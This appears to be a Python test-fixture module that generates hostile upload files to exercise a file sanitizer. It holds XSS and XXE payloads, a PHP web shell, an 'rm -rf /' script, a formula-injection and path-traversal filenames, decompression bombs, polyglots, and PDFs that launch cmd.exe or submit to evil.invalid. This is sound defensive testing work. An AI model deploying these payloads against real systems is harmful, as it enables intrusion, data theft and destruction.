"""Hostile files, made on the spot: about two hundred, by name. None may be kept as it came, none may be shown."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import Any

import pikepdf
from PIL import Image

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
)
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
NOT_OURS = {
    "page.html": HTML, "drawing.svg": SVG, "xxe.svg": XXE, "eicar.com": EICAR, "program.exe": b"MZ" + b"\0" * 500,
    "elf": b"\x7fELF" + b"\0" * 500, "script.sh": b"#!/bin/sh\nrm -rf /\n", "script.php": b"<?php system($_GET[0]); ?>",
    "macro.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "image.gif": b"GIF89a" + b"\0" * 100,
    "image.tiff": b"II*\0" + b"\0" * 100, "image.webp": b"RIFF\0\0\0\0WEBPVP8 ", "image.bmp": b"BM" + b"\0" * 100,
    "photo.heic": b"\0\0\0\x18ftypheic" + b"\0" * 100, "photo.avif": b"\0\0\0\x18ftypavif" + b"\0" * 100,
    "script.ps": b"%!PS-Adobe-3.0\n(%stdout) (w) file", "text.txt": b"bonjour", "archive.rar": b"Rar!\x1a\x07\0",
    "late.pdf": b"\n\n%PDF-1.7 not at the start", "gif.js": b"GIF89a=1;" + SCRIPT, "mht.mht": b"MIME-Version: 1.0\n" + HTML,
}  # fmt: skip
NAMES = [
    "releve.pdf", "releve.pdf.exe", "releve.exe.pdf", "..\\..\\windows\\system.pdf", "../../../etc/passwd", "a\0b.pdf",
    "\u202efdp.exe", "x" * 400 + ".pdf", "", ".", "..", ".htaccess", "con.pdf", "a\r\nSet-Cookie: x=1.pdf", "<script>.pdf",
    "=cmd|'/c calc'!A1.pdf", "%2e%2e%2fetc.pdf", "a;b.pdf", 'a"b.pdf', "fichier.pdf\u200b.exe",
]  # fmt: skip
DECLARED = ["application/pdf", "text/html", "image/svg+xml", "application/x-php", ""]


def picture(kind: str, size: tuple[int, int] = (40, 30), **options: object) -> bytes:
    written = io.BytesIO()
    Image.new("RGB", size, "teal").save(written, kind, **options)
    return written.getvalue()


def photograph_with_place() -> bytes:
    """A JPEG whose EXIF says where it was taken, and carries a script in its comment."""
    exif = Image.Exif()
    exif[0x010E] = "4 quai des Sardiniers, Lorient"
    exif[0x8825] = {1: "N", 2: (47.0, 44.0, 53.0)}
    return picture("JPEG", exif=exif, comment=SCRIPT)


def plain_pdf(pages: int = 1) -> pikepdf.Pdf:
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page()
    return document


def written(document: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    document.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def bomb_png(width: int, height: int) -> bytes:
    """A PNG that says it is that large, of almost no bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!L", len(data)) + kind + data + struct.pack("!L", zlib.crc32(kind + data))

    header = struct.pack("!2L5B", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * min(width * 3 * 100, 50_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def pdfs_that_act() -> Iterator[tuple[str, bytes]]:
    """PDFs that are read well, and that carry something to run, to open or to fetch."""
    name, dictionary = pikepdf.Name, pikepdf.Dictionary
    actions: dict[str, dict[str, Any]] = {
        "javascript": {"S": name.JavaScript, "JS": "app.alert('x')"},
        "launch": {"S": name.Launch, "F": "cmd.exe"},
        "uri": {"S": name.URI, "URI": "https://evil.invalid/"},
        "submit": {"S": name.SubmitForm, "F": "https://evil.invalid/"},
        "remote": {"S": name.GoToR, "F": "evil.invalid-share", "D": [0]},
        "import": {"S": name.ImportData, "F": "cmd.exe"},
    }
    for label, action in actions.items():
        document = plain_pdf()
        document.Root.OpenAction = dictionary(**action)
        yield f"open-{label}.pdf", written(document)
        document = plain_pdf()
        document.pages[0].obj.AA = dictionary(O=dictionary(**action))
        yield f"page-{label}.pdf", written(document)
        document = plain_pdf()
        link = dictionary(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 9, 9], A=dictionary(**action))
        document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(link)])
        yield f"link-{label}.pdf", written(document)
    document = plain_pdf()
    document.attachments["payload.exe"] = EICAR
    yield "embedded.pdf", written(document)
    document = plain_pdf()
    document.Root.Names = dictionary(JavaScript=dictionary(Names=["x", dictionary(**actions["javascript"])]))
    yield "names-javascript.pdf", written(document)
    document = plain_pdf()
    document.Root.AcroForm = dictionary(XFA=document.make_stream(b"<xdp:xdp>" + XXE), Fields=pikepdf.Array())
    yield "xfa.pdf", written(document)
    document = plain_pdf()
    form = document.make_stream(b"", Type=name.XObject, Subtype=name.Form, BBox=[0, 0, 1, 1], Ref=dictionary(F="x.pdf"))
    document.pages[0].obj.Resources = dictionary(XObject=dictionary(X=form))
    yield "reference.pdf", written(document)


def pdfs_that_break() -> Iterator[tuple[str, bytes]]:
    """PDFs that no reader should swallow."""
    document = plain_pdf()
    yield "encrypted.pdf", written(document, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    yield "encrypted-no-password.pdf", written(document, encryption=pikepdf.Encryption(user="", owner="x"))
    yield "many-pages.pdf", written(plain_pdf(101))
    yield "no-page.pdf", written(pikepdf.new())
    document = plain_pdf()
    document.pages[0].obj.Resources = pikepdf.Dictionary(
        XObject=pikepdf.Dictionary(X=document.make_stream(b"ps", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.PS))
    )
    yield "postscript.pdf", written(document)
    yield "header-only.pdf", b"%PDF-1.7\n"
    yield "xxe.pdf", b"%PDF-1.7\n" + XXE
    yield "html.pdf", b"%PDF-1.7\n" + HTML
    yield "nested.pdf", b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    bomb = zlib.compress(b"\0" * 300_000_000, 9)
    yield "bomb.pdf", (
        b"%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length " + str(len(bomb)).encode() + b">>stream\n"
        + bomb + b"\nendstream endobj\n2 0 obj<</Type/XRef/Size 3/W[1 1 1]/Root 1 0 R/Length 9>>stream\n"
        + b"\x02\x01\x00" * 3 + b"\nendstream endobj\nstartxref\n9\n%%EOF"
    )  # fmt: skip


def refused() -> Iterator[tuple[str, bytes]]:
    """What may not be kept in any form."""
    yield from NOT_OURS.items()
    for name, content in NOT_OURS.items():  # the extension and what the browser declares change nothing
        yield f"{name}.pdf", content
        yield f"{name}.jpg", content
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("zeros", b"\0" * 20_000_000)
    yield "bomb.zip", archive.getvalue()
    yield "bomb.pdf.gz", gzip.compress(b"\0" * 20_000_000)
    yield "empty.pdf", b""
    yield "giant.png", bomb_png(30_000, 30_000)
    yield "wide.png", bomb_png(60_000, 600)
    yield "tall.png", bomb_png(1, 4_000_000_000)
    jpeg, png, pdf = picture("JPEG"), picture("PNG"), written(plain_pdf())
    giant = bytearray(jpeg)
    start = giant.find(b"\xff\xc0") + 5
    giant[start : start + 4] = struct.pack("!2H", 65_000, 65_000)
    yield "giant.jpg", bytes(giant)
    for cut in range(4, 28):
        yield f"cut-{cut}.jpg", jpeg[: cut * 4]
        yield f"cut-{cut}.png", png[: cut + 4]
        yield f"cut-{cut}.pdf", pdf[: cut + 2]
    yield from pdfs_that_break()


def cleaned() -> Iterator[tuple[str, bytes]]:
    """What is kept once it is harmless: polyglots, traps inside good files."""
    jpeg, png, pdf = picture("JPEG"), picture("PNG"), written(plain_pdf())
    for label, tail in {
        "html": HTML,
        "svg": SVG,
        "php": NOT_OURS["script.php"],
        "eicar": EICAR,
        "exe": b"MZ" * 200,
    }.items():
        yield f"polyglot-{label}.jpg", jpeg + tail
        yield f"polyglot-{label}.png", png + tail
        yield f"polyglot-{label}.pdf", pdf + b"\n%" + tail
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as made:
        made.writestr("x.jar", HTML)
    yield "polyglot-zip.pdf", pdf + archive.getvalue()
    yield "place.jpg", photograph_with_place()
    yield from pdfs_that_act()
